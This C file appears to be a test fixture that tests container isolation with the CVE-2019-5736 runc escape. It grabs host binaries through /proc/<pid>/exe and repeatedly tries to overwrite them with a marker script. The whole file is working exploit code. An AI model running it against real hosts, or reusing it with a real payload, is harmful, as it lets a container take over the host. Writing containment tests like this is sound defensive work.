/* The CVE-2019-5736 attacker, run as a container's main process by
 * containment.sh: it grabs /proc/<pid>/exe of every process that appears
 * in the container (exec helpers, and a "#!/proc/self/exe" script's
 * interpreter), keeps the fds, and keeps trying to reopen each one for
 * writing, truncate it and write over it; it prints what it grabbed and
 * what it managed.  Built statically by the test. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define MAX_FDS 256

static struct {
  int fd;
  dev_t dev;
  ino_t ino;
  char target[256];
  int written, last_errno;
} grabbed[MAX_FDS];
static int n_grabbed;

static void grab(const char *pid) {
  char p[64], target[256] = "";
  snprintf(p, sizeof p, "/proc/%s/exe", pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  struct stat st;
  ssize_t n = readlink(p, target, sizeof target - 1);
  target[n > 0 ? n : 0] = 0;
  if (fstat(fd, &st) < 0 || st.st_ino == 0) {
    close(fd);
    return;
  }
  struct stat self, root;
  stat("/proc/self/exe", &self);
  /* the container's own files (busybox...) are its own to write */
  if (stat("/", &root) == 0 && st.st_dev == root.st_dev) {
    close(fd);
    return;
  }
  for (int i = 0; i < n_grabbed; i++)
    if (grabbed[i].dev == st.st_dev && grabbed[i].ino == st.st_ino) {
      close(fd);
      return;
    }
  if ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) || !strcmp(target, "/bin/busybox") ||
      n_grabbed == MAX_FDS) {
    close(fd);
    return;
  }
  grabbed[n_grabbed].fd = fd;
  grabbed[n_grabbed].dev = st.st_dev;
  grabbed[n_grabbed].ino = st.st_ino;
  snprintf(grabbed[n_grabbed].target, sizeof grabbed[0].target, "%s", target);
  printf("grabbed pid %s exe %s (dev %u:%u ino %lu size %ld seals %d)\n", pid, target,
         major(st.st_dev), minor(st.st_dev), (unsigned long)st.st_ino, (long)st.st_size,
         fcntl(fd, F_GET_SEALS));
  fflush(stdout);
  n_grabbed++;
}

static void try_write(int i) {
  if (grabbed[i].written) return;
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", grabbed[i].fd);
  int w = open(p, O_WRONLY | O_TRUNC);
  if (w < 0) {
    grabbed[i].last_errno = errno;
    return;
  }
  static const char payload[] = "#!/bin/sh\necho pwned by a container\n";
  if (write(w, payload, sizeof payload - 1) == (ssize_t)(sizeof payload - 1)) {
    grabbed[i].written = 1;
    printf("WROTE over %s\n", grabbed[i].target);
  } else {
    grabbed[i].last_errno = errno;
  }
  fflush(stdout);
  close(w);
}

int main(int argc, char **argv) {
  int seconds = argc > 1 ? atoi(argv[1]) : 60;
  time_t end = time(NULL) + seconds;
  printf("watching\n");
  fflush(stdout);
  while (time(NULL) < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)))
      if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
        grab(e->d_name);
    if (d) closedir(d);
    for (int i = 0; i < n_grabbed; i++)
      try_write(i);
  }
  for (int i = 0; i < n_grabbed; i++)
    if (!grabbed[i].written)
      printf("could not write %s: %s\n", grabbed[i].target, strerror(grabbed[i].last_errno));
  printf("done, %d grabbed\n", n_grabbed);
  return 0;
}
